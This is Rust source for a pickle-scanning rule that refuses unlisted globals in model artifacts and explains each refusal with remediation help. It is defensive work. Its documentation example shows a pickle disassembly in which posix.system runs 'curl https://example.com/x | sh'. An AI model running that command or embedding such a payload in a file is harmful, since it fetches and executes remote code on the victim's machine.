//! Globals that the policy does not allow: the heart of the gate.

use super::Case;
use crate::{
    fact::{Argument, Fact, Global, GlobalName, Hop, Observation, Usage},
    finding::{Finding, Level, Subject},
    policy::{ArgumentVerdict, FormatVerdict, GlobalVerdict, Refusal},
};

declare_rule! {
    /// ## What it does
    ///
    /// Refuses every global that loading an artifact resolves, calls, instantiates or sets state on, unless the policy lists
    /// it for that use, under the module and the name that the artifact stores.
    ///
    /// ## Why it matters
    ///
    /// A pickle is a program: whatever it names is imported, and whatever it calls runs, before the caller sees a result. Any
    /// installed package has functions that can be turned into anything, so a list of bad names always misses one. What a
    /// checkpoint honestly needs is short, and the same from file to file.
    ///
    /// A class of the same name from another module does not count: loading would import that other module.
    ///
    /// ## Example
    ///
    /// ```text
    /// 0x0002  GLOBAL            posix system
    /// 0x0011  BINUNICODE        'curl https://example.com/x | sh'
    /// 0x0039  REDUCE            posix.system('curl https://example.com/x | sh')
    /// ```
    ///
    /// ## Use instead
    ///
    /// Weights without code: safetensors, or a state dict that `weights_only=True` loads. Where a class of yours must be
    /// stored, list exactly the stored path.
    ///
    /// ```yaml
    /// version: 1
    /// extends: recommended
    /// globals:
    ///   allow:
    ///     - myapp.config.TrainingConfig
    /// ```
    "global-not-allowed", "a global that the policy does not list", Deny, check
}

/// What is said of one global at one place in the artifact.
struct Refused<'a> {
    hops: &'a [Hop],
    name: &'a GlobalName,
    /// The most telling of its refused uses.
    usage: Usage,
    observation: &'a Observation,
    verdict: GlobalVerdict,
}

fn check(case: &Case<'_>, findings: &mut Vec<Finding>) {
    let mut refused: Vec<Refused<'_>> = Vec::new();
    for observation in case.observations {
        let Fact::Global {
            global: Global::Named(name),
            usage,
        } = &observation.fact
        else {
            continue;
        };
        let verdict = case.scope.global(name, *usage);
        if verdict == GlobalVerdict::Allowed
            || defined_by_the_archive(case, observation, name)
            || *usage == Usage::Import && looked_up(case, name)
        {
            continue;
        }
        let hops = observation.site.hops.as_slice();
        match refused
            .iter_mut()
            .find(|known| known.hops == hops && known.name == name)
        {
            // Calling says more than importing, and state more than neither.
            Some(known) if rank(*usage) > rank(known.usage) => {
                (known.usage, known.observation, known.verdict) = (*usage, observation, verdict);
            }
            Some(_) => {}
            None => refused.push(Refused {
                hops,
                name,
                usage: *usage,
                observation,
                verdict,
            }),
        }
    }
    refused.retain(|refused| !said_by_the_format(case, refused));
    findings.extend(refused.iter().map(|refused| finding(case, refused)));
    for observation in case.observations {
        arguments(case, observation, findings);
    }
    for observation in case.observations {
        handed_on(case, observation, findings);
    }
}

fn rank(usage: Usage) -> u8 {
    match usage {
        Usage::Import => 0,
        Usage::Build => 1,
        Usage::Construct => 2,
        Usage::Call => 3,
    }
}

/// Where the artifact's format is refused as such, what else the policy would have to list for it is no news; what is
/// dangerous or refused by name still is.
fn said_by_the_format(case: &Case<'_>, refused: &Refused<'_>) -> bool {
    let plain = matches!(
        refused.verdict,
        GlobalVerdict::Refused {
            why: Refusal::Unlisted { .. },
            danger: None,
            ..
        }
    );
    plain
        && case.scope.level(&super::format_not_allowed::META) == Level::Deny
        && case.observations.iter().any(|o| {
            let Fact::Is(id) = &o.fact else { return false };
            refused.hops.starts_with(&o.site.hops)
                && matches!(case.scope.format(id), FormatVerdict::Refused { .. })
        })
}

/// Classes named `__torch__.*` are the TorchScript archive's own code, which is judged as such.
fn defined_by_the_archive(case: &Case<'_>, observation: &Observation, name: &GlobalName) -> bool {
    let module = name.module.as_bytes();
    (module == b"__torch__" || module.starts_with(b"__torch__."))
        && case.observations.iter().any(|o| {
            matches!(&o.fact, Fact::Is(id) if id == "torch-script")
                && observation.site.hops.starts_with(&o.site.hops)
        })
}

/// A name in a class that `getattr` looks up, where the policy allows the class and such a call of `getattr`.
fn looked_up(case: &Case<'_>, name: &GlobalName) -> bool {
    let getattr = GlobalName::new("builtins", "getattr");
    let allowed =
        |name: &GlobalName, usage| case.scope.global(name, usage) == GlobalVerdict::Allowed;
    name.name.as_bytes().contains(&b'.')
        && allowed(&getattr, Usage::Call)
        && case.observations.iter().any(|o| {
            let Fact::Attribute { class, attribute } = &o.fact else {
                return false;
            };
            let arguments = [
                Argument::Global(Global::Named(class.clone())),
                Argument::Str(attribute.clone()),
            ];
            let whole = [class.name.as_bytes(), b".", attribute.as_bytes()].concat();
            class.module == name.module
                && name.name.as_bytes() == whole
                && allowed(class, Usage::Import)
                && case.scope.arguments(&getattr, &arguments) == ArgumentVerdict::Allowed
        })
}

fn finding(case: &Case<'_>, refused: &Refused<'_>) -> Finding {
    let Refused {
        name,
        usage,
        observation,
        ..
    } = refused;
    // The call with its arguments says what would happen; otherwise the use does.
    let call = case.observations.iter().find(|o| {
        o.site.hops == refused.hops
            && matches!(&o.fact, Fact::Call { callee: Global::Named(callee), .. } if callee == *name)
    });
    let call = call.filter(|_| matches!(usage, Usage::Call | Usage::Construct));
    let what = match call.map(|o| &o.fact) {
        Some(Fact::Call {
            preview,
            usage: Usage::Construct,
            ..
        }) => format!("loading creates `{preview}`"),
        Some(Fact::Call { preview, .. }) => format!("loading runs `{preview}`"),
        _ => match usage {
            Usage::Import => format!("loading imports `{name}`"),
            Usage::Build => format!("loading sets the state of what `{name}` made"),
            Usage::Call => format!("loading calls `{name}`"),
            Usage::Construct => format!("loading creates an instance of `{name}`"),
        },
    };
    let shown = call.unwrap_or(observation);
    let mut finding = case.finding(&META, shown, String::new());
    finding.count = observation.count;
    finding.subject = Subject::Global(Global::Named((*name).clone()));
    explain(case, refused, &what, &mut finding);
    finding
}

/// The message, the policy line and the ways out.
fn explain(case: &Case<'_>, refused: &Refused<'_>, what: &str, finding: &mut Finding) {
    let name = refused.name;
    let GlobalVerdict::Refused {
        why,
        decided_by,
        danger,
    } = &refused.verdict
    else {
        return;
    };
    finding.related.extend(decided_by.clone());
    // Where the loader splits the name, the division is part of it.
    let spelled = if name.name.as_bytes().contains(&b'.') {
        format!("{}:{}", name.module, name.name)
    } else {
        name.to_string()
    };
    let danger_note = danger
        .map(|danger| format!(" (it {danger})"))
        .unwrap_or_default();
    let reason = match why {
        Refusal::Unlisted { .. } => format!("the policy does not list `{spelled}`{danger_note}"),
        Refusal::Use { allowed } => {
            let allowed: Vec<String> = allowed.iter().map(ToString::to_string).collect();
            format!(
                "the policy lists `{name}` for {} only, not for {}",
                allowed.join(" and "),
                refused.usage
            )
        }
        Refusal::Refused => format!("the policy refuses `{name}`{danger_note}"),
    };
    finding.message = format!("{what}; {reason}");
    if let Refusal::Unlisted { near: Some(near) } = why {
        finding.help.push(format!(
            "the policy lists `{near}`, which is another name: what counts is the stored module and name; save again from the listed module, or list `{spelled}` if that is what loads it"
        ));
    }
    let torch = case
        .observations
        .iter()
        .any(|o| matches!(o.fact, Fact::TorchLoad(_)));
    if danger.is_some() || matches!(why, Refusal::Refused) {
        finding
            .help
            .push("do not load this file; find out who made it and how it came here".into());
        let instead = if torch {
            "save the weights alone: `safetensors.torch.save_file(model.state_dict(), path)`"
        } else {
            "keep data in a format that holds only data: safetensors, npy, JSON"
        };
        finding
            .help
            .push(format!("if the file is yours, {instead}"));
        return;
    }
    if matches!(why, Refusal::Use { .. }) && case.scope.is_only_named(name) {
        finding.help.push(format!(
            "`{name}` is only ever named in what its library writes, so no entry can allow this: do not load this file, and find out where it comes from"
        ));
        return;
    }
    let entry = match why {
        Refusal::Use { allowed } => {
            let mut uses: Vec<String> = allowed.iter().map(ToString::to_string).collect();
            uses.push(refused.usage.to_string());
            format!("{{global: \"{spelled}\", as: [{}]}}", uses.join(", "))
        }
        _ => spelled,
    };
    finding.help.push(format!(
        "if you trust `{name}` with the contents of any file, list it in weighbridge.yaml:\nglobals:\n  allow:\n    - {entry}"
    ));
    // What stands in the way of weights_only=True otherwise is another finding, and listing a name does not mend it.
    let loads = case
        .observations
        .iter()
        .all(|o| !matches!(&o.fact, Fact::TorchLoad(load) if load.obstacle.is_some()));
    if torch && loads && !case.scope.torch_lists(name) {
        finding.help.push(format!(
            "and name it where the file is loaded:\nwith torch.serialization.safe_globals([{}]):\n    torch.load(path, weights_only=True)",
            case.scope.torch_spells(name)
        ));
    }
    finding.help.push(if torch {
        "or save only the state dict, which needs no class: `torch.save(model.state_dict(), path)`"
            .into()
    } else {
        "or keep the data in a format that holds only data: safetensors, npy, JSON".to_owned()
    });
}

/// Entries that allow a global only with certain arguments.
fn arguments(case: &Case<'_>, observation: &Observation, findings: &mut Vec<Finding>) {
    let Fact::Call {
        callee,
        usage,
        preview,
        arguments,
    } = &observation.fact
    else {
        return;
    };
    if let Global::Named(name) = callee
        && case.scope.global(name, *usage) == GlobalVerdict::Allowed
        && let ArgumentVerdict::Refused { reason, decided_by } =
            case.scope.arguments(name, arguments)
    {
        let message = format!(
            "loading runs `{preview}`; the policy allows `{name}` only with other arguments: {reason}"
        );
        let mut finding = case.finding(&META, observation, message);
        finding.subject = Subject::Global(callee.clone());
        finding.related.extend(decided_by);
        finding
            .help
            .push("look at what the call does before allowing it with other arguments".into());
        findings.push(finding);
    }
    for argument in arguments {
        if let Argument::Global(Global::Named(name)) = argument
            && case.scope.constrains(name)
        {
            let to = format!("to `{preview}`, which");
            findings.push(handed(case, observation, name, &to));
        }
    }
}

/// The same where no call has it among its own arguments: inside another container, in a state, past the arguments that
/// are kept.
fn handed_on(case: &Case<'_>, observation: &Observation, findings: &mut Vec<Finding>) {
    let Fact::HandedOn {
        global: Global::Named(name),
    } = &observation.fact
    else {
        return;
    };
    if !case.scope.constrains(name) {
        return;
    }
    let told = case.observations.iter().any(|o| {
        o.site.hops == observation.site.hops
            && matches!(&o.fact, Fact::Call { arguments, .. }
                if arguments.iter().any(|a| matches!(a, Argument::Global(Global::Named(n)) if n == name)))
    });
    if !told {
        let finding = handed(
            case,
            observation,
            name,
            "on inside other values: what receives it",
        );
        findings.push(finding);
    }
}

fn handed(case: &Case<'_>, observation: &Observation, name: &GlobalName, to: &str) -> Finding {
    let message = format!(
        "loading hands `{name}` {to} could call it with any arguments; the policy constrains them"
    );
    let mut finding = case.finding(&META, observation, message);
    finding.subject = Subject::Global(Global::Named(name.clone()));
    if let ArgumentVerdict::Refused { decided_by, .. } =
        case.scope.arguments(name, &[Argument::Unknown])
    {
        finding.related.extend(decided_by);
    }
    finding.help.push(format!(
        "save the object without handing `{name}` on, or list it without `args` if any arguments are harmless"
    ));
    finding
}
